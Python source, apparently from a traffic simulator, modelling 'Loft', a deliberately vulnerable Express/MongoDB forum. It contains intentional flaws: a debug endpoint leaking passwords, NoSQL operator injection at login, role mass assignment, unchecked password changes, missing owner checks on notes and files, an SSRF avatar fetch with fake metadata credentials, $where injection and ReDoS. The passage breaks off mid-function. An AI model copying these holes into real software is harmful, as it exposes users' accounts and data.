"""Loft: a small community forum with file sharing in the manner of a training application (Express, MongoDB, HS256 JWT).

Plain HTTP on port 3000 of one address, no proxy. Ids are Mongo ObjectIds, users go by name in the path; most failed
log-ins answer HTTP 200 {"success":false}. The token travels as `Authorization: Bearer` (apps) or `x-access-token` (web).
"""
from heldout_core import *
KEY = 'loftsecret'
TAGS = 'glaze kiln wheel raku slip porcelain stoneware studio market tools recipes beginners firing clay'.split()
NOUN = 'mug bowl teapot vase planter plate tile kiln cone shelf sieve bat wheel sponge glaze slip test firing bisque handle lid'.split()
ADJ = 'first cracked green matte leaning tiny huge repaired crystalline blue salt-fired second-hand noisy old wobbly'.split()
SENT = ["Does anybody know why this happens?", "I fired to cone 6 and held 10 minutes.", "It's the best glaze I've had -- really.", "Price was 25$ & free shipping <3", "See page 14, section 2.1; it says 1=1 ratio is fine.", "Please select the right bat from the drop-down, then update the union of both lists.", "My script: if (temp > 1200) { alert('done') }", "O'Neill's book covers it.", "Look in ../recipes/celadon.txt of the archive.", "Thanks!!! 😀", "100% silica, or 50/50 with feldspar?", "Sorry for the late answer, I was away.", "Ich habe das gleiche Problem.", "Has anyone tried to drop the table of the wheel by 2 cm?", "The curve is 80/h to 600, then 150/h to 1240.", "Photos are in the shared folder.", "Works for me; your mileage may vary.", "https://www.youtube.example/watch?v=dQw4w9W&t=12s explains it."]
CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36'
FOX = 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0'
BROWSERS = [CHROME, FOX, 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0', 'Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1']
OFFICE = '195.202.144.18'
ORG_IP = '195.202.144.90'            # the association's own office (admin, moderators by day)
SERVER = '203.0.113.30'
REASON.update({201: 'Created', 413: 'Payload Too Large', 423: 'Locked', 304: 'Not Modified'})


def iso(t): return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(t)) + f'.{int(t % 1 * 1000):03}Z'


def ok(r): return r.st in (200, 201, 304)


def match(v, c):
    """a Mongo condition on one field"""
    if not isinstance(c, dict): return c in v if isinstance(v, list) and not isinstance(c, list) else v == c
    for op, x in c.items():
        try:
            if op == '$options': continue
            if op == '$ne': g = v != x
            elif op == '$eq': g = v == x
            elif op in ('$gt', '$gte', '$lt', '$lte'): g = {'$gt': v > x, '$gte': v >= x, '$lt': v < x, '$lte': v <= x}[op]
            elif op == '$in': g = any(y in x for y in v) if isinstance(v, list) else v in x
            elif op == '$nin': g = not (any(y in x for y in v) if isinstance(v, list) else v in x)
            elif op == '$exists': g = (v is not None) == bool(x)
            elif op == '$regex': g = re.search(x, v if isinstance(v, str) else '', re.I if 'i' in str(c.get('$options', '')) else 0) is not None
            else: raise LookupError(op)
        except (TypeError, re.error): g = False
        if not g: return False
    return True


class Stop(Exception): pass


class Sim3000(Sim):
    """Express' headers, ETag and 304; the token in x-access-token; the grown profile answer is labelled"""
    def call(s, cl, m, url, **k):
        r = super().call(cl, m, url, **k); t = s.tx[-1]
        x = (k.get('h') or {}).get('x-access-token') or cl.h.get('x-access-token')
        if x and not t['_tok']: t['_tok'] = x
        a = s.app
        if a.growth and a.growth[0] <= t['ts'] < a.growth[1] and t['tm'] == 'GET /api/users/{username}' and not t['ep'] and t['st'] in (200, 304) and getattr(r, 'grown', 0): t['ep'] = 'F23'
        return r
    def response(s, r, rq):
        b, ct = r.body, r.ct
        if b is None: b = b''
        elif isinstance(b, (dict, list)): b, ct = json.dumps(b, separators=(',', ':'), ensure_ascii=False).encode('utf-8', 'replace'), ct or 'application/json; charset=utf-8'
        elif isinstance(b, str): b, ct = b.encode('utf-8', 'replace'), ct or 'text/html; charset=utf-8'
        hs = {'X-Powered-By': 'Express', 'Access-Control-Allow-Origin': '*'}; hs.update(r.h); r.etag = None
        if b and r.st in (200, 201):
            r.etag = hs['ETag'] = f'W/"{len(b):x}-{base64.b64encode(hashlib.sha1(b).digest()).decode()[:27]}"'
            if rq.m == 'GET' and rq.h.get('if-none-match') == r.etag: r.st, b, ct = 304, b'', None
        if b: hs['Content-Type'] = ct or 'text/html; charset=utf-8'
        if len(b) > 1024 and 'gzip' in rq.h.get('accept-encoding', '') and (ct or '').startswith(('application/json', 'text/')):
            b = gzip.compress(b, 5, mtime=0)
            hs.update({'Vary': 'Accept-Encoding', 'Content-Encoding': 'gzip', 'Transfer-Encoding': 'chunked'})
            b = b''.join(f'{len(b[i:i+4096]):x}\r\n'.encode() + b[i:i + 4096] + b'\r\n' for i in range(0, len(b), 4096)) + b'0\r\n\r\n'
        elif r.st not in (204, 304): hs['Content-Length'] = str(len(b))
        hs['Date'] = time.strftime('%a, %d %b %Y %H:%M:%S GMT', time.gmtime(s.now))
        head = f'HTTP/1.1 {r.st} {REASON.get(r.st, "Status")}\r\n' + ''.join(f'{k}: {v}\r\n' for k, v in hs.items()) + 'Connection: keep-alive\r\nKeep-Alive: timeout=5\r\n\r\n'
        return head.encode(), b


class Loft(App):
    base_lat = .007
    def __init__(s, rng, start):
        super().__init__(rng); s.start = start
        s.users, s.posts, s.comments, s.notes, s.files, s.msgs, s.groups, s.inv, s.reports = {}, {}, {}, {}, {}, {}, {}, {}, {}
        s.codes, s.act, s.notif = {}, [], defaultdict(int)
        s.mach, s.ctr, s.busy = f'{rng.getrandbits(40):010x}', rng.randint(0x100000, 0x900000), 0
        s.growth = s.feature = s.fields = None; s.dbdown = []; s.by = defaultdict(list)
    # --- store
    def doc(s, coll, now, **f):
        s.ctr += s.rng.choice([1, 1, 2, 3, 6]); i = f'{int(now):08x}{s.mach}{s.ctr & 0xffffff:06x}'
        d = coll[i] = {'_id': i, **f, 'createdAt': iso(now), '__v': 0}; return d
    def user(s, name, pw, role='user', joined=None, email=None):
        r = s.rng; first = name.split('.')[0].split('_')[0]
        u = s.users[name] = dict(username=name, pw=pw, role=role, email=email or f'{name}@{r.choice(["mail", "post", "inbox"])}.example', phone=f'+43 6{r.randint(50, 99)} {r.randint(1000000, 9999999)}', birthDate=f'{r.randint(1955, 2004)}-{r.randint(1, 12):02}-{r.randint(1, 28):02}', displayName=first.title(), bio='', location=r.choice(['Graz', 'Linz', 'Wien', 'Brno', 'Passau', '']), karma=r.randint(0, 120), avatar='/static/default.png', joined=iso(joined or s.start - r.uniform(5, 900) * DAY), banned=False, seen={})
        return u
    def new_post(s, now, author, title, body, tags, private=False):
        p = s.doc(s.posts, now, title=title, body=body, author=author, tags=tags, private=private, likes=0, views=0)
        if not private: s.act.append(dict(type='post', user=author, at=iso(now), ref=p['_id']))
        return p
    def new_file(s, now, owner, name, size):
        f = s.doc(s.files, now, filename=name, owner=owner, size=size, mimetype='application/pdf' if name.endswith('pdf') else 'image/jpeg' if name.endswith('jpg') else 'text/csv', sharedWith=[])
        s.act.append(dict(type='upload', user=owner, at=iso(now), ref=None))
        s.by['file', owner].append(f['_id']); return f
    def new_note(s, now, owner, title, body, kind):
        n = s.doc(s.notes, now, title=title, body=body, owner=owner, type=kind)
        s.by['note', owner].append(n['_id']); return n
    def new_msg(s, now, a, b, text):
        m = s.doc(s.msgs, now, **{'from': a, 'to': b, 'text': text, 'read': False})
        s.by['msg', b].append(m['_id']); s.by['sent', a].append(m['_id']); s.notif[b] += 1; return m
    # --- frame
    def find(s, m, path):
        hit = super().find(m, path)
        if hit and hit[1] is None:
            if m == 'OPTIONS': return hit[0], lambda rq, *a: Rs(204, None, {'Access-Control-Allow-Methods': 'GET,HEAD,PUT,PATCH,POST,DELETE'}), {'auth': 'none'}, []
            return hit[0], lambda rq, *a: s.not_found(rq), {'auth': 'none'}, []
        return hit
    def not_found(s, rq):
        p = rq.path.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;').replace('"', '&quot;').replace("'", '&#39;')
        return Rs(404, f'<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Error</title>\n</head>\n<body>\n<pre>Cannot {rq.m} {p}</pre>\n</body>\n</html>\n', {'Content-Security-Policy': "default-src 'none'", 'X-Content-Type-Options': 'nosniff'}, lat=.002)
    def handle(s, rq):
        s.t = rq.now
        if rq.body and 'json' in rq.h.get('content-type', ''):
            try: json.loads(rq.body)
            except ValueError:
                hit = s.find(rq.m, rq.path); c = (rq.body[:1] or b'?').decode('latin-1')
                return Rs(400, f'<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Error</title>\n</head>\n<body>\n<pre>SyntaxError: Unexpected token {c} in JSON at position 0<br> &nbsp; &nbsp;at JSON.parse (&lt;anonymous&gt;)<br> &nbsp; &nbsp;at parse (/app/node_modules/body-parser/lib/types/json.js:89:19)</pre>\n</body>\n</html>\n', lat=.003), hit[0] if hit else rq.path
        if any(a <= rq.now < b for a, b in s.dbdown) and s.rng.random() < .85:
            hit = s.find(rq.m, rq.path)
            if hit: return Rs(500, {'error': 'MongooseError', 'message': 'Operation `users.findOne()` buffering timed out after 10000ms'}, lat=10 + s.rng.random() * .02), hit[0]
        try: r, tpl = super().handle(rq)
        except Stop as e: r, tpl = Rs(*e.args, lat=s.base_lat * s.rng.lognormvariate(0, .4)), s.find(rq.m, rq.path)[0]
        if rq.now < s.busy:                      # one thread: everybody waits
            r.lat += s.busy - rq.now
        if r.lat > .4 and getattr(r, 'spin', 0): s.busy = max(s.busy, rq.now + r.lat)
        return r, tpl
    def j(s, rq): v = rq.json; return v if isinstance(v, dict) else {}
    def issue(s, u, now, long=False): return jwt(dict(username=u['username'], role=u['role'], iat=int(now), exp=int(now + (72 if long else 24) * HOUR)), KEY)
    def authenticate(s, rq, kw):
        need = kw.get('auth', 'user'); a = rq.h.get('authorization', '')
        tok = rq.h.get('x-access-token') or (a[7:] if a.startswith('Bearer ') else a)
        rq.u, rq.role, err = None, None, None
        if tok:
            c = jwt_ok(tok, KEY); p = tok.split('.')
            if c is None or not isinstance(c, dict): err = 'jwt malformed' if len(p) != 3 else 'jwt signature is required' if not p[2] else 'invalid signature'
            elif c.get('exp', 0) < rq.now: err = 'jwt expired'
            else:
                rq.u = s.users.get(c.get('username')); rq.role = c.get('role')
                if rq.u is None: err = 'user no longer exists'
                else: rq.user = rq.u['username']
        if need == 'none': return None
        if not tok: return Rs(403, {'success': False, 'message': 'No token provided.'}, lat=.002)
        if err: return Rs(401, {'success': False, 'message': f'Failed to authenticate token: {err}'}, lat=.003)
        if rq.u['banned']: return Rs(403, {'success': False, 'message': 'Account suspended'})
        if need == 'admin' and rq.role != 'admin' or need == 'mod' and rq.role not in ('moderator', 'admin'): return Rs(403, {'success': False, 'message': 'Insufficient privileges'}, lat=.003)
    def get(s, coll, i, model):
        if not re.fullmatch('[0-9a-f]{24}', i): raise Stop(500, {'error': 'CastError', 'message': f'Cast to ObjectId failed for value "{i}" (type string) at path "_id" for model "{model}"'})
        if i not in coll: raise Stop(404, {'success': False, 'message': f'{model} not found'})
        return coll[i]
    def page(s, rq, items, key, cut):
        try: pg, n = max(1, int(rq.q.get('page', 1))), min(200, max(1, int(rq.q.get('limit', 20))))
        except ValueError: return 500, {'error': 'CastError', 'message': 'skip must be a number'}
        return 200, {'success': True, key: [cut(x) for x in items[(pg - 1) * n:pg * n]], 'page': pg, 'pages': -(-len(items) // n), 'total': len(items)}
    # --- accounts
    @route('GET', '/', auth='none')
    def home(s, rq): return 200, {'name': 'loft-api', 'version': '1.9.0' if s.fields and rq.now > s.fields else '1.8.4', 'docs': '/api-docs'}
    @route('GET', '/api/health', auth='none')
    def health(s, rq): return 200, {'status': 'ok', 'uptime': int(rq.now - s.start + 86000)}
    @route('GET', '/robots.txt', auth='none')
    def robots(s, rq): return Rs(200, 'User-agent: *\nDisallow: /api/admin\nAllow: /api/posts\n', ct='text/plain; charset=utf-8')
    @route('GET', '/favicon.ico', auth='none')
    def fav(s, rq): return Rs(200, random.Random(7).randbytes(318), ct='image/x-icon')
    @route('POST', '/api/register', auth='none')
    def register(s, rq):
        j = s.j(rq); n, pw, em = j.get('username'), j.get('password'), j.get('email')
        if not all(isinstance(x, str) and x for x in (n, pw, em)): return 400, {'success': False, 'message': 'User validation failed: username: Path `username` is required.'}
        if len(pw) < 6: return 400, {'success': False, 'message': 'Password must have at least 6 characters'}
        if n in s.users: return 409, {'success': False, 'message': f'E11000 duplicate key error collection: loft.users index: username_1 dup key: {{ username: "{n}" }}'}
        u = s.user(n, pw, 'user', rq.now, em); u['karma'] = 0
        u.update({k: v for k, v in j.items() if k in ('role', 'karma', 'displayName', 'location', 'bio')})      # new User(req.body)
        return 201, {'success': True, 'message': 'Registered. Please log in.', 'user': s.pub(u)}
    @route('POST', '/api/login', auth='none')
    def login(s, rq):
        j = s.j(rq); n, pw = j.get('username'), j.get('password')
        if n in (None, '') or pw in (None, ''): return 400, {'success': False, 'message': 'Username and password are required'}
        mail = isinstance(n, str) and '@' in n
        try:
            c = [u for u in s.users.values() if match(u['email' if mail else 'username'], n)]
            hit = [u for u in c if match(u['pw'], pw)]
        except LookupError as e: return 500, {'error': 'MongoServerError', 'message': f'unknown operator: {e.args[0]}'}
        if not hit:
            if mail: return Rs(401, {'error': 'Invalid credentials'}, lat=.07 * s.rng.lognormvariate(0, .2))
            return Rs(200, {'success': False, 'message': 'Wrong password' if c else 'User not found'}, lat=(.07 if c else .006) * s.rng.lognormvariate(0, .2))
        u = hit[0]
        if u['banned']: return 403, {'success': False, 'message': 'Account suspended'}
        rq.user = u['username']
        return Rs(200, {'success': True, 'token': s.issue(u, rq.now, bool(j.get('remember'))), 'user': dict(username=u['username'], role=u['role'])}, lat=.08 * s.rng.lognormvariate(0, .2))
    @route('POST', '/api/password/forgot', auth='none')
    def forgot(s, rq):
        n = str(s.j(rq).get('username'))
        if n not in s.users: return 404, {'success': False, 'message': 'No account with that name'}
        s.codes[n] = f'{s.rng.randint(0, 9999):04}'
        return Rs(200, {'success': True, 'message': 'We sent a 4-digit code to your e-mail address'}, lat=.2)
    @route('POST', '/api/password/reset', auth='none')
    def reset(s, rq):
        j = s.j(rq); n, np = str(j.get('username')), j.get('newPassword')
        if n not in s.users or not isinstance(np, str) or len(np) < 6: return 400, {'success': False, 'message': 'Invalid request'}
        if s.codes.get(n) != str(j.get('code')): return 400, {'success': False, 'message': 'Invalid code'}
        s.users[n]['pw'] = np
        del s.codes[n]
        return Rs(200, {'success': True, 'message': 'Password changed'}, lat=.08)
    def pub(s, u): return {k: u[k] for k in ('username', 'displayName', 'role', 'bio', 'location', 'karma', 'avatar', 'joined')}
    def full(s, u): return dict(s.pub(u), email=u['email'], phone=u['phone'], birthDate=u['birthDate'])
    @route('GET', '/api/me')
    def me(s, rq): return 200, {'success': True, 'user': s.full(rq.u)}
    @route('GET', '/api/me/badges')
    def badges(s, rq): return 200, {'success': True, 'badges': ['early-bird', 'helper'][:1 + rq.u['karma'] // 60 % 2]}
    @route('GET', '/api/notifications')
    def notifications(s, rq): return 200, {'success': True, 'unread': s.notif[rq.user]}
    @route('GET', '/api/users')
    def users_(s, rq): return s.page(rq, sorted(s.users.values(), key=lambda u: u['username']), 'users', lambda u: {k: u[k] for k in ('username', 'displayName', 'joined')})
    @route('GET', '/api/users/_debug', auth='none')
    def debug(s, rq): return 200, {'users': [dict(username=u['username'], password=u['pw'], email=u['email'], role=u['role']) for u in s.users.values()]}
    @route('GET', '/api/users/{username}')
    def profile(s, rq, n):
        u = s.users.get(n)
        if not u: return 404, {'success': False, 'message': 'User not found'}
        if u is rq.u or rq.role == 'admin': return 200, {'success': True, 'user': s.full(u)}
        o, grown = s.pub(u), s.growth and s.growth[0] <= rq.now < s.growth[1]
        if grown: o = dict(s.full(u), lastLoginIp=u.get('ip', '84.115.20.7'), passwordHash='$2b$10$' + hashlib.sha256(u['pw'].encode()).hexdigest()[:53])
        r = Rs(200, {'success': True, 'user': o}); r.grown = grown; return r
    @route('PUT', '/api/users/{username}')
    def nprofile(s, rq, n):
        if n != rq.user and rq.role != 'admin': return 403, {'success': False, 'message': 'You can only edit your own profile'}
        j = s.j(rq)
        s.users[n].update({k: v for k, v in j.items() if k in ('displayName', 'bio', 'location', 'role', 'karma', 'phone')})        # findOneAndUpdate(req.body)
        return 200, {'success': True, 'user': s.full(s.users[n])}
    @route('PUT', '/api/users/{username}/password')
    def npassword(s, rq, n):
        j = s.j(rq); u = s.users.get(n)
        if not u: return 404, {'success': False, 'message': 'User not found'}
        if not isinstance(j.get('password'), str) or len(j['password']) < 6: return 400, {'success': False, 'message': 'Password must have at least 6 characters'}
        if 'oldPassword' in j and j['oldPassword'] != u['pw']: return Rs(200, {'success': False, 'message': 'Old password is wrong'}, lat=.07)
        u['pw'] = j['password']             # whose password it is is not checked
        return Rs(200, {'success': True, 'message': 'Password changed'}, lat=.15)
    @route('PUT', '/api/users/{username}/email')
    def nemail(s, rq, n):
        e = s.j(rq).get('email')
        if n != rq.user: return 403, {'success': False, 'message': 'You can only edit your own profile'}
        if not isinstance(e, str) or not re.fullmatch(r'[\w.+-]{1,60}@[\w-]+(\.[\w-]+)+', e):
            m = re.match(r'[a-zA-Z0-9]+', str(e)); k = len(m.group()) if m else 0
            r = Rs(400, {'success': False, 'message': 'Please provide a valid email address'}, lat=.004 + min(9.5, 4e-6 * 2 ** max(0, min(k, 40) - 8)))
            r.spin = 1; return r
        rq.u['email'] = e; return 200, {'success': True, 'email': e}
    @route('PUT', '/api/users/{username}/avatar')
    def navatar(s, rq, n):
        url = str(s.j(rq).get('url'))
        if n != rq.user: return 403, {'success': False, 'message': 'You can only edit your own profile'}
        u = urlsplit(url) if url.startswith(('http://', 'https://', 'file:', 'gopher:')) else None
        if u is None or u.scheme not in ('http', 'https'): return 400, {'success': False, 'message': 'Only absolute URLs are supported' if u is None else f'protocol "{u.scheme}:" not supported'}
        h = u.hostname or ''
        if h == '169.254.169.254':
            return Rs(200, {'success': True, 'avatar': f'/static/a/{n}.png', 'contentType': 'text/plain', 'bytes': 318, 'preview': 'ami-id\nhostname\niam/\ninstance-id\nlocal-ipv4' if not u.path.endswith('loft-role') else '{"Code":"Success","AccessKeyId":"ASIAQ3EGEXAMPLE","SecretAccessKey":"9drTJvcXLB89EXAMPLE"}'}, lat=.02)
        if h in ('127.0.0.1', 'localhost', '0.0.0.0', '2130706433', '[::1]') or h.startswith(('10.', '192.168.', '172.')):
            if (u.port or 80) in (80, 3000, 9200, 27017): return Rs(200, {'success': True, 'avatar': f'/static/a/{n}.png', 'contentType': 'text/html', 'bytes': s.rng.randint(60, 900)}, lat=.01)
            return Rs(400, {'success': False, 'message': f'request to {url} failed, reason: connect ECONNREFUSED {h}:{u.port or 80}'}, lat=.01)
        if s.rng.random() < .1: return Rs(400, {'success': False, 'message': f'request to {url} failed, reason: getaddrinfo ENOTFOUND {h}'}, lat=.3)
        rq.u['avatar'] = f'/static/a/{n}.png'
        return Rs(200, {'success': True, 'avatar': rq.u['avatar'], 'contentType': 'image/png', 'bytes': s.rng.randint(4000, 90000)}, lat=.15 + s.rng.random() * .4)
    @route('POST', '/api/users/{username}/karma')
    def karma(s, rq, n):
        a, u = s.j(rq).get('amount'), s.users.get(n)
        if not u or u is rq.u: return 400, {'success': False, 'message': 'Unknown recipient'}
        if not isinstance(a, int): return 400, {'success': False, 'message': 'Cast to Number failed for value at path "amount"'}
        if a > rq.u['karma']: return 200, {'success': False, 'message': 'Not enough karma', 'karma': rq.u['karma']}
        rq.u['karma'] -= a; u['karma'] += a; return 200, {'success': True, 'karma': rq.u['karma']}
    @route('DELETE', '/api/users/{username}', auth='admin')
    def duser(s, rq, n): return (200, {'success': True, 'message': f'{n} deleted'}) if s.users.pop(n, None) else (404, {'success': False, 'message': 'User not found'})
    @route('GET', '/api/users/{username}/notes')
    def unotes(s, rq, n):
        if n not in s.users: return 404, {'success': False, 'message': 'User not found'}
        return 200, {'success': True, 'notes': [{k: s.notes[i][k] for k in ('_id', 'title', 'type')} for i in s.by['note', n] if i in s.notes]}
    # --- posts
    def brief(s, p):
        o = {k: p[k] for k in ('_id', 'title', 'author', 'tags', 'likes', 'createdAt')}
        if s.fields and s.t > s.fields: o['excerpt'] = p['body'][:80]
        return o
    def visible(s): return [p for p in reversed(s.posts.values()) if not p['private']]
    @route('GET', '/api/posts', auth='none')
    def posts_(s, rq):
        v = s.visible()
        if rq.q.get('tag'): v = [p for p in v if rq.q['tag'] in p['tags']]
        return s.page(rq, v, 'posts', s.brief)
    @route('GET', '/api/feed')
    def feed(s, rq): return s.page(rq, s.visible(), 'items', s.brief) if rq.now > s.fields else s.not_found(rq)
    @route('POST', '/api/posts')
    def npost(s, rq):
        j = s.j(rq)
        if not j.get('title') or not isinstance(j['title'], str): return 400, {'success': False, 'message': 'Post validation failed: title: Path `title` is required.'}
        return 201, {'success': True, 'post': s.new_post(rq.now, rq.user, j['title'][:200], str(j.get('body', ''))[:5000], j.get('tags') if isinstance(j.get('tags'), list) else [], bool(j.get('private')))}
    @route('GET', '/api/posts/{id}', auth='none')
    def post(s, rq, i):
        p = s.get(s.posts, i, 'Post')
        if p['private'] and p['author'] != rq.user and rq.role not in ('moderator', 'admin'): return 404, {'success': False, 'message': 'Post not found'}
        o = dict(p)
        if s.fields and rq.now > s.fields: p['views'] += s.rng.random() < .3
        else: o.pop('views')
        return 200, {'success': True, 'post': o}
    @route('DELETE', '/api/posts/{id}')
    def dpost(s, rq, i):
        p = s.get(s.posts, i, 'Post')
        if p['author'] != rq.user and rq.role not in ('moderator', 'admin'): return 403, {'success': False, 'message': 'Insufficient privileges'}
        del s.posts[i]
        return 200, {'success': True}
    @route('GET', '/api/posts/{id}/comments', auth='none')
    def comments_(s, rq, i):
        p = s.get(s.posts, i, 'Post')
        return (200, {'success': True, 'comments': [s.comments[c] for c in s.by['comment', i][-30:]]})
    @route('POST', '/api/posts/{id}/comments')
    def ncomment(s, rq, i):
        p = s.get(s.posts, i, 'Post'); t = s.j(rq).get('text')
        if not t: return 400, {'success': False, 'message': 'Comment validation failed: text: Path `text` is required.'}
        c = s.doc(s.comments, rq.now, post=i, author=rq.user, text=str(t)[:2000])
        s.by['comment', i].append(c['_id'])
        s.act.append(dict(type='comment', user=rq.user, at=iso(rq.now), ref=c['_id']))
        s.notif[p['author']] += 1; return 201, {'success': True, 'comment': c}
    @route('POST', '/api/posts/{id}/like')
    def like(s, rq, i): p = s.get(s.posts, i, 'Post'); p['likes'] += 1; return 200, {'success': True, 'likes': p['likes']}
    @route('GET', '/api/activity', auth='none')
    def activity(s, rq): return s.page(rq, s.act[::-1][:1500], 'activity', dict)
    @route('POST', '/api/search')
    def search(s, rq):
        j = s.j(rq); f = j.get('filter') if isinstance(j.get('filter'), dict) else {}
        f = {'private': False, **f}                        # the caller's filter wins
        w, lat, out = f.pop('$where', None), .01, []
        if w is not None:
            w = str(w)
            if w.count("'") % 2 or w.count('"') % 2: return 500, {'error': 'MongoServerError', 'message': 'SyntaxError: Invalid or unexpected token :\n@(shell):1:1'}
            m = re.search(r'sleep\((\d+)\)', w); lat += int(m.group(1)) / 1000 if m else .05
            m = re.search(r'this\.(\w+)\.match\(/\^(.*?)/\)', w)
            if m: f[m.group(1)] = {'$regex': '^' + m.group(2)}
            if 'private' not in j.get('filter', {}): f.pop('private')
        try:
            for p in reversed(s.posts.values()):
                if all(any(isinstance(y, dict) and all(match(p.get(k), c) for k, c in y.items()) for y in v) if k == '$or' and isinstance(v, list) else match(p.get(k), v) for k, v in f.items()):
                    out.append(p)
        except LookupError as e: return 500, {'error': 'MongoServerError', 'message': f'unknown operator: {e.args[0]}'}
        n = j.get('limit', 20); n = n if isinstance(n, int) and 0 < n <= 100 else 20
        return Rs(200, {'success': True, 'total': len(out), 'results': [dict(s.brief(p), private=True, body=p['body']) if p['private'] else s.brief(p) for p in out[:n]]}, lat=lat * s.rng.lognormvariate(0, .3))
    # --- notes, files, messages, groups
    @route('GET', '/api/notes')
    def notes_(s, rq): return s.page(rq, [s.notes[i] for i in s.by['note', rq.user] if i in s.notes][::-1], 'notes', lambda n: {k: n[k] for k in ('_id', 'title', 'type', 'createdAt')})
    @route('POST', '/api/notes')
    def nnote(s, rq):
        j = s.j(rq)
        if not isinstance(j.get('title'), str) or not j['title']: return 400, {'success': False, 'message': 'Note validation failed: title: Path `title` is required.'}
        return 201, {'success': True, 'note': s.new_note(rq.now, rq.user, j['title'], str(j.get('body', '')), 'public' if j.get('type') == 'public' else 'secret')}
    @route('GET', '/api/notes/{id}')
    def note(s, rq, i):
        n = s.get(s.notes, i, 'Note')
        return 200, {'success': True, 'note': n}         # no owner check
    @route('PUT', '/api/notes/{id}')
    def enote(s, rq, i):
        n = s.get(s.notes, i, 'Note')
        if n['owner'] != rq.user: return 403, {'success': False, 'message': 'Not your note'}
        n.update({k: v for k, v in s.j(rq).items() if k in ('title', 'body')}); n['__v'] += 1
        return 200, {'success': True, 'note': n}
    @route('DELETE', '/api/notes/{id}')
    def dnote(s, rq, i):
        n = s.get(s.notes, i, 'Note')
        if n['owner'] != rq.user: return 403, {'success': False, 'message': 'Not your note'}
        del s.notes[i]
        return 200, {'success': True}
    @route('GET', '/api/files')
    def files_(s, rq):
        every = rq.q.get('all') == '1' and rq.role in ('moderator', 'admin')
        return s.page(rq, (list(s.files.values()) if every else [s.files[i] for i in s.by['file', rq.user] if i in s.files])[::-1], 'files', lambda f: {k: f[k] for k in ('_id', 'filename', 'size', 'createdAt')})
    @route('GET', '/api/files/shared')
    def shared(s, rq): return 200, {'success': True, 'files': [{k: f[k] for k in ('_id', 'filename', 'owner')} for f in s.files.values() if rq.user in f['sharedWith']][-20:]}
    @route('POST', '/api/files')
    def nfile(s, rq):
        m = re.search(rb'filename="([^"]{1,200})"', rq.body or b'')
        if not m: return 400, {'success': False, 'message': 'Multipart: Boundary not found'}
        return Rs(201, {'success': True, 'file': s.new_file(rq.now, rq.user, m.group(1).decode('utf-8', 'replace'), len(rq.body))}, lat=.04)
    @route('GET', '/api/files/{id}')
    def file(s, rq, i):
        f = s.get(s.files, i, 'File')
        return 200, {'success': True, 'file': f}         # no owner check
    @route('GET', '/api/files/{id}/download')
    def download(s, rq, i):
        f = s.get(s.files, i, 'File')
        return Rs(200, (b'%PDF-1.4\n' if f['filename'].endswith('pdf') else b'\xff\xd8\xff\xe0') + random.Random(i).randbytes(f['size']), {'Content-Disposition': f'attachment; filename="{f["filename"]}"'}, ct=f['mimetype'], lat=.02)
    @route('POST', '/api/files/{id}/share')
    def share(s, rq, i):
        f = s.get(s.files, i, 'File')
        if f['owner'] != rq.user: return 403, {'success': False, 'message': 'Not your file'}
        n = s.j(rq).get('username')
        if n not in s.users: return 404, {'success': False, 'message': 'User not found'}
        f['sharedWith'].append(n); return 200, {'success': True, 'sharedWith': f['sharedWith']}
    @route('GET', '/api/messages')
    def msgs_(s, rq):
        s.notif[rq.user] = 0
        return s.page(rq, [s.msgs[i] for i in s.by['sent' if rq.q.get('box') == 'sent' else 'msg', rq.user]][::-1], 'messages', lambda m: {k: m[k] for k in ('_id', 'from', 'to', 'read', 'createdAt')})
    @route('GET', '/api/messages/{id}')
    def msg(s, rq, i):
        m = s.get(s.msgs, i, 'Message')
        if rq.user not in (m['from'], m['to']): return 403, {'success': False, 'message': 'Not your message'}
        m['read'] = True; return 200, {'success': True, 'message': m}
    @route('POST', '/api/messages')
    def nmsg(s, rq):
        j = s.j(rq)
        if j.get('to') not in s.users or not j.get('text'): return 404, {'success': False, 'message': 'Recipient not found'}
        m = s.new_msg(rq.now, rq.user, j['to'], str(j['text'])[:3000])
        return 201, {'success': True, 'id': m['_id']}
    @route('GET', '/api/groups')
    def groups_(s, rq): return 200, {'success': True, 'groups': [dict(_id=g['_id'], name=g['name'], members=len(g['members'])) for g in s.groups.values()]}
    @route('GET', '/api/groups/{id}')
    def group(s, rq, i): g = s.get(s.groups, i, 'Group'); return 200, {'success': True, 'group': g}
    @route('POST', '/api/groups/{id}/join')
    def join(s, rq, i):
        g = s.get(s.groups, i, 'Group')
        if rq.user in g['members']: return 409, {'success': False, 'message': 'Already a member'}
        g['members'].append(rq.user); return 200, {'success': True}
    @route('POST', '/api/groups/{id}/invitations')
    def invite(s, rq, i):
        g, n = s.get(s.groups, i, 'Group'), s.j(rq).get('username')
        if n not in s.users: return 404, {'success': False, 'message': 'User not found'}
        v = s.doc(s.inv, rq.now, group=i, to=n, **{'from': rq.user}); s.notif[n] += 1
        return 201, {'success': True, 'invitation': v}
    @route('GET', '/api/invitations')
    def invs(s, rq): return 200, {'success': True, 'invitations': [v for v in s.inv.values() if v['to'] == rq.user]}
    @route('POST', '/api/invitations/{id}/accept')
    def accept(s, rq, i):
        v = s.get(s.inv, i, 'Invitation')
        if v['to'] != rq.user: return 403, {'success': False, 'message': 'Not your invitation'}
        del s.inv[i]
        s.groups[v['group']]['members'].append(rq.user); return 200, {'success': True}
    @route('GET', '/api/events')
    def events(s, rq):
        return (200, {'success': True, 'events': [dict(title='Spring firing', date='2026-03-28', going=17), dict(title='Glaze workshop', date='2026-04-11', going=9)]}) if rq.now > s.feature else s.not_found(rq)
    @route('POST', '/api/import')
    def ximport(s, rq):
